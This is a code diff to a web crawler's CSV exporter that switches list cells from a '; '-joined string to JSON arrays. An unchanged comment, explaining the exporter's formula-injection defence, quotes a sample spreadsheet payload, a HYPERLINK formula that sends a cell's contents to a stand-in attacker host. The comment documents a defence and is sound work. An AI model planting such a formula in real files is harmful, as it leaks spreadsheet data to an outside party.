@@ -24,9 +24,6 @@ from crawler.export.columns import Column, Shape, layout
 from crawler.export.filters import Row
 from crawler.sinks import json_safe
 
-#: How list columns are joined into one CSV cell (and split again by a reader).
-LIST_SEPARATOR = "; "
-
 #: A text cell starting with one of these is taken by spreadsheets as a formula (``=``,
 #: ``+``, ``-``, ``@``) or has its leading tab or CR dropped before one: a crawled title
 #: ``=HYPERLINK("http://evil.example/?"&A1,"x")`` would run on opening. OWASP's "CSV
@@ -74,7 +71,8 @@ def write_csv(rows: Iterable[Row], path: Path | None, *, shape: Shape = "records
               raw: bool = False) -> int:
     """Rows as UTF-8 CSV with a header row; ``None`` writes to stdout. Returns the count.
 
-    Lists are joined with ``"; "``, nulls are empty cells, and story variants are JSON text.
+    Lists are JSON arrays (``["Ann Lee", "Bo Chen"]``), nulls are empty cells, and story
+    variants are JSON text.
     A text cell a spreadsheet would run as a formula gets a leading ``'``
     (:data:`FORMULA_STARTS`) unless ``raw``: for tools that read the CSV as data.
     """
@@ -101,9 +99,9 @@ def _defused(cell: Any) -> Any:
 def _cell(column: Column, value: Any) -> Any:
     if value is None:
         return None
-    if column.kind == "list":
-        return LIST_SEPARATOR.join(value)
-    if column.kind == "variants":
+    if column.kind in ("list", "variants"):
+        # A list as JSON text, as variants are: a value holding the old separator "; " (an
+        # author "Lee; Ann", a tag) could not be split back; json.loads gives the list again.
         return msgspec.json.encode(value).decode()
     return value
 
